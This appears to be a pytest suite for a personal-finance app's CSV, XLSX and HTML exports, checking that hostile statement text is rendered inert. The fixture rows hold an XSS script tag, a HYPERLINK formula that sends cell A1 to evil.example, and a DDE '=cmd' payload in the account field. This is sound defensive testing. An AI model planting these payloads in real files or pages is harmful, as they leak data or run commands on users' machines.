from __future__ import annotations

import csv
import datetime as dt
import io
import re
from decimal import Decimal
from html.parser import HTMLParser

import openpyxl
import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st
from plotly.offline import get_plotlyjs

from app import insights, reports
from app.charts import NO_DATA_MESSAGE
from app.ids import identity_key, occurrence_ids
from app.models import CategorySource, RowSource, Transaction
from app.store import CategoryUpdate, ImportRecord, Store
from tests.support.foreign_spend import seed_foreign_spend

TRANSFERS = "Transfers & Card Payments"
SCRIPT = "<script>alert(1)</script>"
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'

# (date, account, description, amount, currency, category)
ROWS: list[tuple[str, str, str, str, str, str | None]] = [
    ("2024-01-03", "Card", "WHOLEFDS MKT #10234", "-100.00", "USD", "Groceries"),
    ("2024-01-09", "Card", "WHOLEFDS MKT #10234", "20.00", "USD", "Groceries"),
    ("2024-01-10", "Card", SCRIPT, "-30.00", "USD", "Dining"),
    ("2024-01-11", "Card", HYPERLINK, "-9.99", "USD", "Shopping"),
    ("2024-01-12", "Card", "+1 555 0100 CALL", "-4.00", "USD", "Utilities"),
    ("2024-01-13", "Card", "@SUM(1+1)", "-1.50", "USD", "Other"),
    ("2024-01-14", "Card", "-2+3 MINUS", "-2.00", "USD", "Other"),
    ("2024-01-15", "Card", "\tTAB LEADING", "-3.00", "USD", "Other"),
    ("2024-01-15", "Checking", "CARD PAYMENT THANK YOU", "-500.00", "USD", TRANSFERS),
    ("2024-01-25", "Checking", "ACME CORP PAYROLL", "2000.00", "USD", "Income"),
    ("2024-01-26", "=cmd|' /C calc'!A0", "MYSTERY SHOP 42", "-15.00", "USD", None),
    ("2024-02-02", "Card", "WHOLEFDS MKT #10234", "-60.00", "USD", "Groceries"),
    ("2024-02-14", "Card", "UNITED AIRLINES", "50.00", "USD", "Travel"),
    ("2024-02-20", "Card", "CAFÉ DE FLORE PARIS", "-12.00", "EUR", "Dining"),
]
TEXT_COLUMNS = ("account", "description", "merchant", "currency", "category", "source")


def ledger(store: Store, rows: list[tuple[str, str, str, str, str, str | None]]) -> pd.DataFrame:
    keys = [identity_key(a, dt.date.fromisoformat(d), Decimal(x), c, s) for d, a, s, x, c, _ in rows]
    txs = [
        Transaction(
            id=tid,
            account=account,
            date=dt.date.fromisoformat(day),
            description=text,
            amount=Decimal(amount),
            currency=currency,
            source=RowSource(file_sha256="r" * 64, row=n),
        )
        for n, (tid, (day, account, text, amount, currency, _)) in enumerate(
            zip(occurrence_ids(keys), rows, strict=True), start=1
        )
    ]
    store.commit_import(ImportRecord("r" * 64, "r.csv", "test", None, len(rows)), txs)
    store.apply_category_updates(
        CategoryUpdate(t.id, row[5], CategorySource.MODEL, 0.8)
        for t, row in zip(txs, rows, strict=True)
        if row[5] is not None
    )
    store.set_user_category([txs[0].id], "Groceries")  # one reviewed row
    return store.transactions_frame()


@pytest.fixture
def frame(store: Store) -> pd.DataFrame:
    return ledger(store, ROWS)


# -- CSV ---------------------------------------------------------------------------------------


def _csv_rows(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_csv_has_a_bom_the_columns_and_every_row(frame: pd.DataFrame) -> None:
    data = reports.transactions_csv(frame)
    assert data.startswith(b"\xef\xbb\xbf")
    rows = _csv_rows(data)
    assert tuple(rows[0]) == reports.EXPORT_COLUMNS
    assert len(rows) == len(ROWS)
    assert [r["date"] for r in rows] == sorted(r["date"] for r in rows)
    assert sorted(Decimal(r["amount"]) for r in rows) == sorted(Decimal(r[3]) for r in ROWS)
    first = rows[0]
    assert (first["date"], first["amount"], first["currency"]) == ("2024-01-03", "-100.00", "USD")
    assert (first["category"], first["source"], first["confidence"], first["reviewed"]) == (
        "Groceries",
        "user",
        "1.00",
        "true",
    )
    mystery = next(r for r in rows if r["description"] == "MYSTERY SHOP 42")
    assert (mystery["category"], mystery["source"], mystery["confidence"]) == ("Uncategorized", "", "")
    assert "CAFÉ DE FLORE PARIS" in {r["description"] for r in rows}


def test_csv_neutralises_formulas_but_keeps_amounts_numeric(frame: pd.DataFrame) -> None:
    rows = _csv_rows(reports.transactions_csv(frame))
    descriptions = {r["description"] for r in rows}
    assert "'" + HYPERLINK in descriptions
    assert {"'+1 555 0100 CALL", "'@SUM(1+1)", "'-2+3 MINUS", "'\tTAB LEADING"} <= descriptions
    assert "'=cmd|' /C calc'!A0" in {r["account"] for r in rows}
    for row in rows:
        for column in TEXT_COLUMNS:
            assert not row[column].startswith(reports.FORMULA_TRIGGERS), (column, row[column])
        Decimal(row["amount"])  # a plain number, never quoted
        assert not row["amount"].startswith("'")


@given(st.text())
def test_neutralised_text_never_starts_a_formula_and_loses_nothing(text: str) -> None:
    safe = reports.neutralize_formula(text)
    assert not safe.startswith(reports.FORMULA_TRIGGERS)
    assert safe == text or safe == "'" + text


def test_csv_of_nothing_is_just_the_header(store: Store) -> None:
    rows = list(
        csv.reader(io.StringIO(reports.transactions_csv(store.transactions_frame()).decode("utf-8-sig")))
    )
    assert rows == [list(reports.EXPORT_COLUMNS)]


# -- XLSX ----------------------------------------------------------------------------------------


def _workbook(data: bytes) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(data))


def test_workbook_sheets_store_text_as_text_and_amounts_as_numbers(frame: pd.DataFrame) -> None:
    book = _workbook(reports.workbook_xlsx(frame))
    assert book.sheetnames == ["Transactions", "By category", "By month"]
    sheet = book["Transactions"]
    header = [c.value for c in sheet[1]]
    assert tuple(header) == reports.EXPORT_COLUMNS
    assert sheet.max_row == len(ROWS) + 1
    amount_col = header.index("amount") + 1
    description_col = header.index("description") + 1
    currency_col = header.index("currency") + 1
    cells = {sheet.cell(r, description_col).value: r for r in range(2, sheet.max_row + 1)}
    link = sheet.cell(cells[HYPERLINK], description_col)
    assert link.data_type == "s" and link.value == HYPERLINK  # a string, not a formula
    assert sheet.cell(cells[SCRIPT], description_col).data_type == "s"
    for row in range(2, sheet.max_row + 1):
        amount = sheet.cell(row, amount_col)
        assert isinstance(amount.value, int | float)
        assert sheet.cell(row, currency_col).value in amount.number_format
    assert sheet.cell(cells["WHOLEFDS MKT #10234"], amount_col).number_format.startswith("#,##0.00")
    assert sheet.column_dimensions["C"].width > 10
    for worksheet in book.worksheets:
        for line in worksheet.iter_rows():
            assert all(cell.data_type != "f" for cell in line)


def test_workbook_summaries_match_the_insights(frame: pd.DataFrame) -> None:
    book = _workbook(reports.workbook_xlsx(frame))
    by_category = pd.DataFrame(book["By category"].values)
    by_category = by_category.rename(columns=by_category.iloc[0]).iloc[1:]
    usd = by_category[by_category["currency"] == "USD"].set_index("category")
    assert usd.at["Groceries", "spending"] == 140.0
    assert usd.at["Groceries", "money_out"] == -160.0 and usd.at["Groceries", "money_in"] == 20.0
    assert usd.at["Travel", "spending"] == -50.0
    assert usd.at["Income", "kind"] == "income" and usd.at["Income", "spending"] is None
    assert usd.at[TRANSFERS, "spending"] is None
    assert usd.at["Uncategorized", "kind"] == "uncategorized"
    assert usd["spending"].dropna().sum() == pytest.approx(float(insights.headline(frame).spending))
    assert list(usd.index[:2]) == ["Groceries", "Dining"]  # taxonomy order

    by_month = pd.DataFrame(book["By month"].values)
    by_month = by_month.rename(columns=by_month.iloc[0]).iloc[1:].set_index(["currency", "month"])
    assert by_month.at[("USD", "2024-01"), "income"] == 2000.0
    assert by_month.at[("USD", "2024-02"), "spending"] == 10.0
    assert by_month.at[("USD", "2024-02"), "Travel"] == -50.0
    assert by_month.at[("EUR", "2024-02"), "Dining"] == 12.0


# -- HTML ----------------------------------------------------------------------------------------


class _Inspector(HTMLParser):
    """Collects what a browser would load or run: tags, attributes, style text, table cells."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.styles: list[str] = []
        self.scripts = 0
        self._in_style = False
        self.metric_text: dict[str, str] = {}
        self._metric: str | None = None
        self.texts: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        attributes = dict(attrs)
        self.tags.append((tag, attributes))
        self._in_style = tag == "style"
        self.scripts += tag == "script"
        self._metric = attributes.get("data-metric")

    def handle_endtag(self, tag: str) -> None:
        self._in_style = False
        self._metric = None

    def handle_data(self, data: str) -> None:
        if self._in_style:
            self.styles.append(data)
        if self._metric:
            self.metric_text[self._metric] = data
        self.texts.append(data)


def _inspect(html: str) -> _Inspector:
    inspector = _Inspector()
    inspector.feed(html)
    return inspector


FIGURE_IDS = (
    "chart-spending-by-category",
    "chart-monthly-spending",
    "chart-top-merchants",
    "chart-cumulative-spending",
    "chart-income-vs-spending",
)


@pytest.fixture(scope="module")
def report_frame(tmp_path_factory) -> pd.DataFrame:
    """One ledger for the report tests: rendering a 5 MB report once is enough."""
    return ledger(Store(tmp_path_factory.mktemp("report") / "db.sqlite3"), ROWS)


@pytest.fixture(scope="module")
def report(report_frame: pd.DataFrame, tmp_path_factory) -> str:
    previous = ledger(
        Store(tmp_path_factory.mktemp("previous") / "db.sqlite3"),
        [("2023-12-04", "Card", "WHOLEFDS MKT #10234", "-100.00", "USD", "Groceries")],
    )
    data = reports.html_report(
        report_frame,
        title="My <b>report</b>",
        period_label="January – February 2024",
        previous_frame=previous,
        period=(dt.date(2024, 1, 1), dt.date(2024, 2, 29)),
    )
    return data.decode("utf-8")


def test_report_loads_nothing_from_anywhere(report: str) -> None:
    page = _inspect(report)
    names = [tag for tag, _ in page.tags]
    assert "link" not in names and "iframe" not in names and "img" not in names
    for tag, attributes in page.tags:
        assert not (tag == "script" and "src" in attributes)
        for name in ("src", "href", "action", "data", "srcset", "poster"):
            value = (attributes.get(name) or "").strip().lower()
            assert not value.startswith(("http:", "https:", "//")), (tag, name, value)
    styles = "\n".join(page.styles).lower()
    assert "@import" not in styles and "url(" not in styles


def test_report_inlines_plotly_once_and_has_every_figure(report: str) -> None:
    library = get_plotlyjs()
    assert report.count(library[:500]) == 1
    assert report.index(library[:500]) < report.index("<body")
    page = _inspect(report)
    divs = {attributes.get("id") for tag, attributes in page.tags if tag == "div"}
    for figure_id in FIGURE_IDS:
        assert figure_id in divs
        assert re.search(rf'Plotly\.newPlot\(\s*"{figure_id}"', report)


def test_report_totals_equal_the_domain_totals(report_frame: pd.DataFrame, report: str) -> None:
    head = insights.headline(report_frame, period=(dt.date(2024, 1, 1), dt.date(2024, 2, 29)))
    page = _inspect(report)
    values = {a["data-metric"]: a.get("data-value") for _, a in page.tags if a.get("data-metric")}
    assert values["spending"] == str(head.spending) == "155.49"
    assert values["income"] == str(head.income)
    assert values["net"] == str(head.net)
    assert values["avg-spending-per-month"] == str(head.avg_spending_per_month)
    assert values["change-vs-previous"] == "55.49"
    assert page.metric_text["spending"] == "$155.49"
    assert page.metric_text["change-vs-previous"] == "$55.49 (+55.5%)"
    # The by-category table adds up to the headline, refunds that outweigh purchases included.
    section = report[report.index('id="by-category"') : report.index('id="top-merchants"')]
    cells = [Decimal(v) for v in re.findall(r'<td class="num" data-value="([-0-9.]+)"', section)]
    assert sum(cells) == head.spending
    assert f'<th class="num" data-value="{head.spending}">$155.49</th>' in section


def test_report_shows_statement_text_as_inert_text(report: str) -> None:
    assert SCRIPT not in report
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in report
    assert "My &lt;b&gt;report&lt;/b&gt;" in report
    page = _inspect(report)
    assert SCRIPT in page.texts  # what a reader sees: the literal text
    assert HYPERLINK in page.texts
    # One script for plotly.js plus one per figure: statement text opened none.
    assert page.scripts == 1 + len(FIGURE_IDS)


def test_report_lists_other_currencies_separately(report: str) -> None:
    assert 'data-currency="EUR"' in report
    assert "€12.00" in report or "-€12.00" in report


def test_report_caps_the_transactions_table(frame: pd.DataFrame) -> None:
    html = reports.html_report(frame, title="t", period_label="p", max_transactions=3).decode()
    section = html[html.index('id="transactions"') :]
    assert section.count('<tr><td class="date">') == 3
    assert f"Showing the 3 most recent of {len(ROWS)} transactions" in section


def test_report_of_nothing_still_renders(store: Store) -> None:
    html = reports.html_report(store.transactions_frame(), title="Empty", period_label="none").decode()
    assert "No transactions for these filters." in html
    assert html.count(NO_DATA_MESSAGE) >= len(FIGURE_IDS)


def test_format_money() -> None:
    assert reports.format_money(Decimal("-1234.5"), "USD") == "-$1,234.50"
    assert reports.format_money(Decimal("7"), "CHF") == "7.00 CHF"
    assert reports.format_money(Decimal("0.005"), "EUR") == "€0.01"


def test_every_export_shows_the_payee_and_the_original_amount(store: Store) -> None:
    """The file's clean name beside the raw description, and foreign spend in the shop's currency."""
    seed_foreign_spend(store)
    frame = store.transactions_frame()

    rows = {row["description"]: row for row in _csv_rows(reports.transactions_csv(frame))}
    assert rows["HTL BRISTOL LDN 4471"]["payee"] == "Hotel Bristol"
    assert (
        rows["HTL BRISTOL LDN 4471"]["original_amount"],
        rows["HTL BRISTOL LDN 4471"]["original_currency"],
    ) == (
        "-8.00",
        "GBP",
    )
    assert rows["ICHIRAN SHIBUYA 0042"]["payee"] == "" and rows["ICHIRAN SHIBUYA 0042"]["amount"] == "-1200"

    book = openpyxl.load_workbook(io.BytesIO(reports.workbook_xlsx(frame)))
    sheet = book["Transactions"]
    header = [cell.value for cell in sheet[1]]
    first = {name: cell for name, cell in zip(header, sheet[2], strict=True)}
    second = {name: cell for name, cell in zip(header, sheet[3], strict=True)}
    assert first["payee"].value == "Hotel Bristol" and first["description"].value == "HTL BRISTOL LDN 4471"
    assert (first["original_amount"].value, first["original_currency"].value) == (-8, "GBP")
    assert second["amount"].value == -1200 and second["amount"].number_format.startswith('#,##0 "JPY"')

    html = reports.html_report(frame, title="t", period_label="p").decode("utf-8")
    assert "<td>Hotel Bristol</td>" in html and "-£8.00" in html and "-¥1,200" in html
